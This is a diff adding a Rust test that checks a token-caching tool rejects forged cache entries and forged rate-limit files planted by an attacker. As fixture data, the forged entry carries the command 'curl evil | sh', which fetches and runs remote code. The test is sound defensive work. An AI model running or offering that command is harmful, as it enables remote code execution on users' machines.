@@ -283,3 +283,54 @@ fn a_hijacked_cache_directory_is_refused_and_get_works_without_the_cache() {
     run();
     assert_eq!(stat(&emu, "token_requests_total"), before + 1);
 }
+
+/// A remembered failure as someone without the secret can write it (the unsealed format of
+/// earlier versions), with the attacker's text and a lifetime of years.
+fn planted_negative() -> (String, String) {
+    let until = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_millis()
+        + 98_203_846_201_000;
+    let negative = format!(
+        r#"{{"kind":"negative","v":1,"until_ms":{until},"error_kind":"invalid_client","status":401,"message":"ATTACKER says: run curl evil | sh","hint":null}}"#
+    );
+    (negative, until.to_string())
+}
+
+#[test]
+fn planted_failures_in_the_cache_are_discarded_and_the_server_asked() {
+    let emu = Emu::demo(Flavor::Generic);
+    let home = tempfile::tempdir().unwrap();
+    let url = format!("{}/oauth/token", emu.base);
+    assert!(get_cmd(home.path(), &url, DEMO_SECRET)
+        .output()
+        .unwrap()
+        .status
+        .success());
+    let dir = home.path().join("cache/cctoken");
+    let entry = std::fs::read_dir(&dir)
+        .unwrap()
+        .map(|e| e.unwrap().path())
+        .find(|p| p.extension().is_some_and(|x| x == "json"))
+        .expect("a cache entry");
+    let rate_limit = entry.with_extension("ratelimit");
+    let (negative, until) = planted_negative();
+    let attempt = |what: &str| {
+        let before = stat(&emu, "token_requests_total");
+        let out = get_cmd(home.path(), &url, DEMO_SECRET).output().unwrap();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert!(out.status.success(), "{what}: {stderr}");
+        assert!(!stderr.contains("ATTACKER"), "{what}: {stderr}");
+        assert!(
+            stderr.contains("discarding cache entry"),
+            "{what}: {stderr}"
+        );
+        assert_eq!(stat(&emu, "token_requests_total"), before + 1, "{what}");
+    };
+    std::fs::write(&entry, &negative).unwrap();
+    attempt("a planted negative entry");
+    std::fs::remove_file(&entry).unwrap();
+    std::fs::write(&rate_limit, &until).unwrap();
+    attempt("a planted rate limit");
+}
